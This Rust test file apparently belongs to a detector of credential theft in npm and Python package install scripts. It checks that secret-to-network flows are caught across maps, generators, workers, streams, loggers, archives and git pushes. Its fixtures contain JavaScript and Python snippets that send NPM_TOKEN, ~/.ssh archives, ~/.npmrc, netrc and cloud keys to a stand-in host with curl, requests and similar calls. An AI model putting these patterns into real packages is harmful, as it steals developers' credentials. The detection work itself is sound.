//! Secrets that pass through containers, contexts and processes are still sent.

use crate::flow::testing::{MANIFEST, found, script};
use crate::unpack::{Entry, text_file};
use customs_model::{SinkKind, SourceKind, Zone};

fn sends(entries: Vec<Entry>) -> bool {
    found(entries).flows.iter().any(|flow| {
        matches!(
            flow.source,
            SourceKind::NamedSecret | SourceKind::CredentialFile
        ) && flow.sink == SinkKind::Network
            && flow.zone == Zone::Install
    })
}

/// A script of npm in which `SECRET` is one and `send(…)` sends.
fn node(code: &str) -> Vec<Entry> {
    script(&with_names(code))
}

fn with_names(code: &str) -> String {
    let code = code.replace("SECRET", "process.env.NPM_TOKEN");
    format!(
        "function send(x) {{ require('https').request({{ hostname: 'a.invalid' }}).end(x); }}\n\
         {code}\n"
    )
}

/// A script with a file that it starts as a child.
fn with_child(code: &str, child: &str) -> Vec<Entry> {
    vec![
        text_file("package/package.json", MANIFEST),
        text_file("package/i.js", &with_names(code)),
        text_file("package/c.js", &with_names(child)),
    ]
}

/// A `setup.py` in which `T` is a secret and `send(…)` sends.
fn setup(code: &str) -> Vec<Entry> {
    let code = format!(
        "import os, requests\nT = os.environ['NPM_TOKEN']\n\
         def send(x):\n    requests.post('https://a.invalid', data=x)\n{code}\n"
    );
    vec![
        text_file("a-1.0/PKG-INFO", "Name: a\nVersion: 1.0\n"),
        text_file("a-1.0/setup.py", &code),
    ]
}

#[test]
fn what_is_put_into_a_map_of_a_field_comes_out_of_it() {
    let class = |put: &str| {
        format!(
            "class C {{ constructor() {{ this.m = new Map(); this.n = new Map(); }}\n\
             put(v) {{ this.{put}.set('a', v); }} get() {{ return this.m.get('a'); }} }}\n\
             const c = new C(); c.put(SECRET); send(c.get());"
        )
    };
    assert!(sends(node(&class("m"))));
    assert!(!sends(node(&class("n"))));
}

#[test]
fn a_tag_gets_each_value_of_its_template() {
    assert!(sends(node(
        "const t = (s, ...v) => v[0]; send(t`a${SECRET}b`);"
    )));
    assert!(sends(node("function t(s, v) { send(v); } t`a${SECRET}b`;")));
    assert!(!sends(node(
        "const t = (s, ...v) => v[0]; send(t`a${1}b`);"
    )));
}

#[test]
fn a_generator_has_what_is_sent_into_it() {
    let code = |sent: &str| {
        format!(
            "function* g() {{ const v = yield; send(v); }}\nconst i = g(); i.next(); i.next({sent});"
        )
    };
    assert!(sends(node(&code("SECRET"))));
    assert!(!sends(node(&code("1"))));
    assert!(sends(setup(
        "def g():\n    v = yield\n    send(v)\ni = g()\nnext(i)\ni.send(T)"
    )));
}

#[test]
fn what_runs_within_a_context_has_what_it_is_run_with() {
    let code = |of: &str| {
        format!(
            "const {{ AsyncLocalStorage }} = require('async_hooks');\n\
             const s = new AsyncLocalStorage(), o = new AsyncLocalStorage();\n\
             {of}.run(SECRET, () => {{ send(s.getStore()); }});"
        )
    };
    assert!(sends(node(&code("s"))));
    assert!(!sends(node(&code("o"))));
}

#[test]
fn a_child_has_the_messages_of_who_started_it() {
    let fork = "require('child_process').fork(__dirname + '/c.js').send(SECRET);";
    let worker = "const { Worker } = require('worker_threads');\n\
                  const w = new Worker(__dirname + '/c.js'); w.postMessage(SECRET);";
    let data = "const { Worker } = require('worker_threads');\n\
                new Worker(__dirname + '/c.js', { workerData: SECRET });";
    assert!(sends(with_child(
        fork,
        "process.on('message', m => send(m));"
    )));
    assert!(sends(with_child(
        worker,
        "require('worker_threads').parentPort.on('message', m => send(m));"
    )));
    assert!(sends(with_child(
        data,
        "send(require('worker_threads').workerData);"
    )));
    assert!(sends(with_child(
        "require('child_process').fork(__dirname + '/c.js').on('message', m => send(m));",
        "process.send(SECRET);"
    )));
    // One edge changed: it sends something else.
    assert!(!sends(with_child(
        fork,
        "process.on('message', m => m); send('ready');"
    )));
}

#[test]
fn what_a_program_reads_that_sends_it_is_sent() {
    let input = |line: &str, given: &str| {
        format!("require('child_process').execSync('{line}', {{ input: {given} }});")
    };
    assert!(sends(node(&input(
        "curl -d @- https://a.invalid",
        "SECRET"
    ))));
    assert!(!sends(node(&input("curl -d @- https://a.invalid", "'a'"))));
    assert!(!sends(node(&input("sort", "SECRET"))));
    let pipe = |args: &str| {
        format!(
            "const c = require('child_process').spawn('curl', [{args}]); c.stdin.write(SECRET);"
        )
    };
    assert!(sends(node(&pipe("'-d', '@-', 'https://a.invalid'"))));
    assert!(!sends(node(&pipe("'https://a.invalid'"))));
    assert!(sends(setup(
        "import subprocess\nsubprocess.run(['curl', '-d', '@-', 'https://a.invalid'], input=T)"
    )));
    assert!(sends(setup(
        "import subprocess\np = subprocess.Popen(['curl', '-d', '@-', 'https://a.invalid'])\n\
         p.communicate(T)"
    )));
    assert!(sends(setup(
        "p = os.popen('curl -d @- https://a.invalid', 'w')\np.write(T)"
    )));
    assert!(!sends(setup(
        "import subprocess\nsubprocess.run(['sort'], input=T)"
    )));
}

#[test]
fn libraries_of_python_send_and_read_by_their_own_names() {
    assert!(sends(setup(
        "import xmlrpc.client\nxmlrpc.client.ServerProxy('https://a.invalid').report(T)"
    )));
    assert!(!sends(setup(
        "import xmlrpc.client\nxmlrpc.client.ServerProxy('https://a.invalid').version()"
    )));
    assert!(sends(setup(
        "import socket\ns = socket.create_connection(('a.invalid', 80))\n\
         f = s.makefile('w')\nf.write(T)"
    )));
    assert!(sends(setup("import netrc\nsend(str(netrc.netrc().hosts))")));
    assert!(sends(setup(
        "import boto3\nc = boto3.Session().get_credentials()\nsend(c.secret_key)"
    )));
}

#[test]
fn what_is_logged_goes_where_the_handler_sends_it() {
    let code = |added: &str, logger: &str| {
        format!(
            "import logging, logging.handlers\n\
             h = logging.handlers.HTTPHandler('a.invalid', '/x', method='POST')\n\
             logging.getLogger('{added}').addHandler(h)\nlogging.getLogger('{logger}').error(T)"
        )
    };
    assert!(sends(setup(&code("a", "a"))));
    assert!(sends(setup(&code("a", "a.b"))));
    assert!(!sends(setup(&code("a", "b"))));
    assert!(!sends(setup(
        "import logging\nlogging.getLogger('a').error(T)"
    )));
}

#[test]
fn a_stream_that_goes_into_a_request_takes_what_was_put_into_it() {
    let code = |given: &str| {
        format!(
            "const {{ PassThrough }} = require('stream'); const p = new PassThrough();\n\
             p.end({given}); p.pipe(require('https').request({{ hostname: 'a.invalid' }}));"
        )
    };
    assert!(sends(node(&code("SECRET"))));
    assert!(!sends(node(&code("'a'"))));
}

#[test]
fn an_archive_holds_what_was_put_into_it() {
    let made = |folder: &str| {
        format!(
            "import shutil\np = shutil.make_archive('/tmp/x', 'zip', {folder})\nsend(open(p, 'rb'))"
        )
    };
    assert!(sends(setup(&made("os.path.expanduser('~/.ssh')"))));
    assert!(!sends(setup(&made("'build'"))));
    let bytes = |folder: &str| {
        format!(
            "import io, tarfile\nb = io.BytesIO()\nt = tarfile.open(fileobj=b, mode='w')\n\
             t.add({folder})\nsend(b.getvalue())"
        )
    };
    assert!(sends(setup(&bytes("os.path.expanduser('~/.ssh')"))));
    assert!(!sends(setup(&bytes("'build'"))));
}

#[test]
fn a_text_that_is_run_has_what_its_command_line_says_behind_it() {
    let line = |text: &str, given: &str| {
        node(&format!(
            "require('child_process').spawn(process.execPath, ['-e', `{text}`, {given}]);"
        ))
    };
    let posts = "fetch('https://a.invalid', {method: 'POST', body: process.argv[1]})";
    assert!(sends(line(posts, "SECRET")));
    assert!(!sends(line(posts, "'quiet'")));
    assert!(!sends(line(
        "fetch('https://a.invalid', {method: 'POST', body: process.version})",
        "SECRET"
    )));
    let python = "import sys, requests; requests.post('https://a.invalid', data=sys.argv[1])";
    assert!(sends(setup(&format!(
        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', \"{python}\", T])"
    ))));
}

#[test]
fn what_is_pushed_with_a_folder_is_what_was_put_into_it() {
    let pushes = |file: &str, line: &str| {
        node(&format!(
            "const fs = require('fs'), os = require('os'), path = require('path');\n\
             const d = fs.mkdtempSync(path.join(os.tmpdir(), 'g'));\n\
             fs.copyFileSync({file}, path.join(d, 'n'));\n\
             require('child_process').execSync('git add -A && git commit -qm x && {line}', {{cwd: d}});"
        ))
    };
    let token = "path.join(os.homedir(), '.npmrc')";
    let away = "git push -q https://x@git.a.invalid/a.git HEAD";
    assert!(sends(pushes(token, away)));
    assert!(sends(pushes(token, "git push git@git.a.invalid:a/b.git")));
    // To where the folder's own settings say, and something that is no secret.
    assert!(!sends(pushes(token, "git push origin HEAD")));
    assert!(!sends(pushes("path.join(__dirname, 'a.txt')", away)));
}

#[test]
fn a_secret_behind_the_host_of_an_address_is_part_of_it_wherever_the_address_goes() {
    let with = |put: &str| {
        node(&format!(
            "const u = new URL('https://a.invalid/');\n{put}\n\
             require('child_process').execSync(`curl -s ${{u.href}}`);"
        ))
    };
    assert!(sends(with("u.search = SECRET;")));
    assert!(sends(with("u.pathname = '/-/' + SECRET;")));
    assert!(sends(with("u.searchParams.set('x', SECRET);")));
    assert!(!sends(with("u.search = process.version;")));
    assert!(!sends(with("const v = {}; v.search = SECRET;")));
}

#[test]
fn a_line_that_is_put_together_of_a_list_is_read() {
    let lines = |list: &str| {
        node(&format!(
            "const c = Buffer.from(SECRET).toString('hex').match(/.{{1,50}}/g) || [];\n\
             require('child_process').exec({list});"
        ))
    };
    assert!(sends(lines(
        "['curl https://a.invalid/' + c[0], 'true'].join(' ; ')"
    )));
    assert!(!sends(lines(
        "['curl https://a.invalid/', 'true'].join(' ; ')"
    )));
}
